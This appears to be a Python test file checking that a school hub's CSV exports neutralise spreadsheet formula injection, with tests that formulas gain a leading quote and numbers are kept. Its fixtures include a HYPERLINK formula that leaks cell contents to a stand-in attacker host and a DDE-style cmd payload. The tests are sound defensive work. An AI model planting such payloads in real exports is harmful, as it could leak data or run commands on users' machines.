"""A school's text that a spreadsheet would run as a formula is written as text in the hub's
CSV exports; numbers stay numbers (security finding 4)."""

from __future__ import annotations

import csv

from app.hub.csv_cells import safe_cell
from app.hub.enrolment import enrol_school
from app.hub.hub import Hub
from app.hub.ingest import ingest_bundle
from app.hub.report import semester_report
from app.hub.report_csv import report_csv
from app.hub.state_export import state_csv
from tests.builders.hub import SEMESTER, TestSchool, semester_records

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Skola")'


def _sent(hub: Hub) -> TestSchool:
    school = TestSchool(name=NAME)
    school.accept_trust(enrol_school(hub, school.request()).trust)
    semester = semester_records(names=False)
    for student in semester.records["student"]:
        student["data"]["programme"] = "@SUM(1+1)*cmd|'/C'"
    assert ingest_bundle(hub, school.bundle(semester.records).data).status == "accepted"
    return school


def test_report_csv_writes_a_formula_as_text(hub: Hub) -> None:
    school = _sent(hub)
    rows = list(csv.DictReader(report_csv(semester_report(hub, SEMESTER)).splitlines()))
    mine = [r for r in rows if r["school_id"] == school.school_id]
    assert mine and {r["school"] for r in mine} == {"'" + NAME}
    assert all(r["value"].lstrip("-").isdigit() for r in rows)  # figures stay numbers


def test_state_csv_writes_a_formula_as_text(hub: Hub) -> None:
    _sent(hub)
    rows = list(csv.DictReader(state_csv(hub, SEMESTER).splitlines()))
    assert len(rows) == 3
    assert {r["programme"] for r in rows} == {"'@SUM(1+1)*cmd|'/C'"}
    assert all(r["grade"] == "5" for r in rows)


def test_every_formula_start_is_neutralised_and_numbers_are_kept() -> None:
    for text in ("=1+2", "+1", "-1+2", "@A1", "\tx", "\rx", "-", "-1e5", "- 3"):
        assert safe_cell(text) == "'" + text
    for kept in (-12, 0, 3.5, "-12", "-3.50", "12", "Ādaži", "", None, "a=b"):
        assert safe_cell(kept) == kept
